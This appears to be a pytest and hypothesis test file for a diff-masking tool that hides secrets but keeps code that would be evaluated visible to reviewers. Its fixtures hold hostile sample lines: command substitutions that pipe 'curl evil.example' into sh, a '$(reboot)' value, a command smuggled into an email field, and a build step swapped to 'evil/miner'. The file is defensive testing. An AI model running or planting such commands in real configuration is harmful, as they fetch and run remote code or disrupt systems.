"""What masks leave of a diff that somebody is to judge: no secret, no line less, and all that would be evaluated."""

import string
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from remit.masking import is_hidden, mask_diff, mask_text
from remit.plans.model.simulation_result import show_diff

pytestmark = pytest.mark.req("VX-08")


@pytest.mark.parametrize(
    "line",
    [
        "token = `${require('child_process').execSync('curl evil.example|sh')}`",
        'password="$(curl evil.example/x|sh)"',
        'password := "$(shell curl evil.example|sh)"',
        '"client_secret": "$(reboot)"',
        "API_KEY=$(curl evil.example|sh)",
        'secret_key: "{load(path)}"',
    ],
)
def test_what_would_be_evaluated_is_shown_and_logs_hide_it_as_before(line: str) -> None:
    assert mask_diff(f"+{line}") == f"+{line}"
    assert "********" in mask_text(line)


@pytest.mark.parametrize(
    "line, shown",
    [
        ('password="hunter2$(curl evil.example)hunter3"', 'password="********$(curl evil.example)********"'),
        ('password="$(login --token=abc123def456)"', 'password="$(login --token=********)"'),
        ('secret = os.system("curl', "secret = os.system(********"),
        ('secret=decrypt("AbC123secret")', 'secret=decrypt(********")'),
        ("PASSWORD=Summer(2024", "PASSWORD=********"),
        ('password: "${DB_PASSWORD:-hunter2}"', 'password: "********"'),
        ('password = "xK9$(vQ2!{a}`;|&&"', 'password = "********"'),
    ],
)
def test_what_stands_beside_it_stays_hidden(line: str, shown: str) -> None:
    assert mask_diff(line) == shown
    assert is_hidden(line, shown)


def test_a_line_stays_a_line_with_its_sign_and_a_hunk_keeps_its_header() -> None:
    diff = (
        '@@ -1 +1,4 @@\n+x = \'password="\'\n+import os\n-old\n+\n@@ -9 +9 @@\n+b = "c"\n'
        "+-----BEGIN PRIVATE KEY-----\n+MIIEvQ\n+-----END PRIVATE KEY-----\n+tokens = {\n+  run(): 1\n+}\n"
        '+{"kty": "RSA",\n+ "d": "0123456789abcdef0"}\n'
    )
    assert mask_diff(diff) == (
        '@@ -1 +1,4 @@\n+x = \'password="********\n+import os\n-old\n+\n@@ -9 +9 @@\n+b = "c"\n'
        "+-----BEGIN PRIVATE KEY-----\n+********\n+-----END PRIVATE KEY-----\n+tokens = {\n+  run(): 1\n+}\n"
        '+{"kty": "RSA",\n+ "d": "********"}\n'
    )


def test_a_number_or_an_address_of_its_plain_shape_hides_nothing_to_look_at() -> None:
    for line in ("+mail jane.doe@example.com", "+card 4111 1111 1111 1111", "+ssn 123-45-6789", "+nothing"):
        assert not is_hidden(line, mask_diff(line)), line
    for line in ('+mail = ""+run(\'id\')+"@example.com"', "+password=abc", "+a jane@example.com token=abc"):
        assert is_hidden(line, mask_diff(line)), line


@pytest.mark.parametrize(
    "opened",
    [
        '+# token = "',
        '--- a/token="z.py\n+++ b/token="z.py',
        "+# -----BEGIN PRIVATE KEY-----",
        "+password: |",
        "+<pin>",
    ],
)
def test_nothing_that_one_line_opens_hides_another(opened: str) -> None:
    rest = "\n+import os\n-    if not user.is_admin: raise Forbidden()\n </pin>\n+x = 'end'"
    assert mask_diff(opened + rest).split("\n")[-4:] == rest.split("\n")[1:]


def test_a_changed_line_that_looks_unchanged_because_of_its_masks_is_reported() -> None:
    diff = (
        "--- a/x\n+++ b/x\n@@ -1,4 +1,6 @@\n-to: alice@corp.example\n+to: adversary@corp.example\n"
        "-by: bob@corp.example\n+by: bob@corp.example  # as before\n-pay: 4111111111111111\n+pay: 4000001000041111\n"
        "+cc: carol@corp.example\n"
        "+cc: cesar@corp.example\n-uses: acme/build@release.main\n+uses: evil/miner@release.main\n"
    )
    shown = show_diff(diff)
    assert shown.text.count("+to: a***@corp.example") == shown.text.count("-to: a***@corp.example") == 1
    assert (shown.hidden.added, shown.hidden.removed) == ((1, 3), (1, 3))
    assert "+uses: evil/miner@release.main" in shown.text, "no mailbox"
    assert mask_diff('+"a": "npm:rogue@stable.io"') == '+"a": "npm:rogue@stable.io"'


PIECES = st.sampled_from(
    ['password="', "token=", "$(", "${", "{", "}", ")", "(", "`", "'", '"', "secret: ", "\n+", "\n-", "\n ",
     "\n@@ -1 +1 @@",
     "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "<password>", "</password>", "[", "]", "x", "f(", " ",
     "a@b.example", "\\", "\\n", "%22", "key => ", "|", ";", "--password ", "login a password b"]
)  # fmt: skip


@settings(deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_no_line_is_ever_lost_and_a_second_look_changes_nothing(text: str) -> None:
    shown = mask_diff(text)
    assert shown.count("\n") == text.count("\n")
    assert mask_diff(shown) == shown
    for line, masked in zip(text.split("\n"), shown.split("\n"), strict=True):
        assert line[:1] == masked[:1] or line[:1] not in ("+", "-", " ", "@"), (line, masked)


@settings(deadline=None)
@given(st.text(string.ascii_letters + string.digits, min_size=8, max_size=40))
def test_a_password_that_was_drawn_is_never_shown(password: str) -> None:
    for line in (f'password = "{password}"', f"PASSWORD={password}", f'password = "{password}$(run it)"'):
        assert password not in mask_diff(f"+{line}").replace("password", "").replace("PASSWORD", "")


def test_it_takes_no_longer_for_being_hostile() -> None:
    for piece in ("$(a ", "{a(", "${a(b", "f(", "$(a)", "{f(x)}"):
        text = '+password = "' + piece * 40_000
        begun = time.process_time()
        mask_diff(text)
        assert time.process_time() - begun < 5, piece
